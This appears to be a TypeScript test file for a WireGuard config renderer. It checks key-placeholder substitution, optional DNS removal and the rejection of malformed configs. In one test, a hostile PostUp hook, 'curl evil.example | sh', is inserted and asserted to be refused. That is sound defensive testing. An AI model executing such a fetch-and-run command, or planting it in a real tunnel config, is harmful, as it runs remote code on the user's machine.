import { generateKeyPair } from "@wg402/wireguard";
import { dropDnsLines, parseWgQuickConfig, renderTunnelConfig } from "./wgQuickConfig.ts";

const server = generateKeyPair();
// What an agent sends (agent/src/leases/tunnelConfig.ts).
const fromNode = [
  "[Interface]",
  "PrivateKey = PRIVATE_KEY_PLACEHOLDER",
  "Address = 10.64.0.7/32",
  "DNS = 1.1.1.1, 9.9.9.9",
  "",
  "[Peer]",
  `PublicKey = ${server.publicKey}`,
  "AllowedIPs = 0.0.0.0/0, ::/0",
  "Endpoint = 203.0.113.5:51820",
  "PersistentKeepalive = 25",
  "",
].join("\n");

describe("renderTunnelConfig", () => {
  it("writes the client's private key where the node left the placeholder", () => {
    const client = generateKeyPair();
    const text = renderTunnelConfig(fromNode, client.privateKey);
    expect(text).toContain(`PrivateKey = ${client.privateKey}\n`);
    expect(text).not.toContain("PRIVATE_KEY_PLACEHOLDER");
    expect(text.replace(client.privateKey, "PRIVATE_KEY_PLACEHOLDER")).toBe(fromNode);
    expect(parseWgQuickConfig(text)).toEqual({
      privateKey: client.privateKey,
      addresses: ["10.64.0.7/32"],
      dns: ["1.1.1.1", "9.9.9.9"],
      mtu: null,
      peers: [
        {
          publicKey: server.publicKey,
          allowedIps: ["0.0.0.0/0", "::/0"],
          endpoint: "203.0.113.5:51820",
          persistentKeepalive: 25,
        },
      ],
    });
  });

  it("drops the DNS line when asked (wg-quick without resolvconf)", () => {
    const text = renderTunnelConfig(fromNode, generateKeyPair().privateKey, { dropDns: true });
    expect(text).not.toMatch(/DNS/);
    expect(parseWgQuickConfig(text).dns).toEqual([]);
    expect(dropDnsLines("A = 1\nDNS = 1.1.1.1\nB = 2\n")).toBe("A = 1\nB = 2\n");
  });

  it("refuses a config without exactly one placeholder, a bad key, or shell hooks", () => {
    const key = generateKeyPair().privateKey;
    expect(() => renderTunnelConfig(fromNode.replace("PRIVATE_KEY_PLACEHOLDER", key), key)).toThrow(/exactly one/);
    expect(() => renderTunnelConfig(`${fromNode}[Interface]\nPrivateKey = PRIVATE_KEY_PLACEHOLDER\n`, key)).toThrow(
      /exactly one/,
    );
    expect(() => renderTunnelConfig(fromNode, "not-a-key")).toThrow(/private key/);
    const hooked = fromNode.replace("DNS = 1.1.1.1, 9.9.9.9", "PostUp = curl evil.example | sh");
    expect(() => renderTunnelConfig(hooked, key)).toThrow(/PostUp/);
  });

  it("refuses text that is not a usable WireGuard config", () => {
    expect(() => parseWgQuickConfig("[Interface]\nAddress = 10.0.0.2/32\n")).toThrow(/PrivateKey/);
    expect(() => parseWgQuickConfig(`[Interface]\nPrivateKey = ${generateKeyPair().privateKey}\n`)).toThrow(/Address/);
    expect(() => parseWgQuickConfig("[Bogus]\n")).toThrow(/unknown section/);
  });
});
